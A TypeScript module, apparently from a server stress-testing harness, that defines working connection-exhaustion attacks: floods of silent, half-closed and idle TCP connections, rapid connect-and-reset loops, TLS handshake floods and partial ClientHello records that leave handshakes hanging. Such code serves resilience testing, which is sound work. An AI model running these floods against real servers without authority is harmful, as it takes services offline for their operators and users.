import type { Socket } from 'node:net'
import type { Attack, Effort, Target } from './attack.ts'
import { Crowd, type Door, dial } from './sockets.ts'

/** What one address may have, and more: the rest is turned away again and again. */
const OF_ONE_ADDRESS = 400
/** Beyond what the network may have of all connections. */
const IDLE = 10_000

/** Connections that nothing comes of. */
function crowd(name: string, door: Door, size: number, greet?: (socket: Socket) => void): Attack {
  return {
    name,
    plain: door === 'tcp',
    async begin(target: Target, effort: Effort) {
      const all = new Crowd(
        () => dial(target, door),
        effort,
        (socket) => {
          socket.resume()
          greet?.(socket)
        },
      )
      await all.gather(Math.ceil(size * target.scale))
      return () => all.disperse()
    },
  }
}

/** Whoever is let in leaves at once. */
function flood(name: string, door: Door, lanes: number, leave: (socket: Socket) => void): Attack {
  return {
    name,
    plain: door === 'tcp',
    async begin(target: Target, effort: Effort) {
      let over = false
      const come = () => {
        if (over) return
        const socket = dial(target, door)
        effort.connections++
        socket.on('error', () => {})
        socket.once(door === 'tls' ? 'secureConnect' : 'connect', () => leave(socket))
        socket.once('close', () => setImmediate(come))
      }
      for (let lane = 0; lane < lanes; lane++) come()
      return () => {
        over = true
      }
    },
  }
}

/** A record that says a ClientHello of 500 bytes follows. */
const HELLO = Buffer.from([0x16, 0x03, 0x01, 0x01, 0xf4, 0x01])

export const CROWDS: readonly Attack[] = [
  crowd('silent connections', 'tcp', OF_ONE_ADDRESS),
  crowd('half-closed connections', 'tcp', OF_ONE_ADDRESS, (socket) => socket.end('POST /api/ HTTP/1.1\r\n')),
  crowd('10,000 idle connections', 'proxied', IDLE),
  flood('connections, again and again', 'tcp', 32, (socket) => socket.destroy()),
  flood('connections, reset', 'tcp', 32, (socket) => socket.resetAndDestroy()),
  flood('TLS handshakes', 'tls', 16, (socket) => socket.destroy()),
  {
    name: 'TLS handshakes, begun',
    plain: false,
    async begin(target, effort) {
      const { secure } = target
      if (secure === undefined) throw new Error('there is no door with TLS')
      const plain = { ...target, port: secure.port }
      const all = new Crowd(
        () =>
          dial(plain, 'tcp').on('connect', function (this: Socket) {
            this.write(HELLO)
          }),
        effort,
      )
      await all.gather(Math.ceil(OF_ONE_ADDRESS * target.scale))
      return () => all.disperse()
    },
  },
]
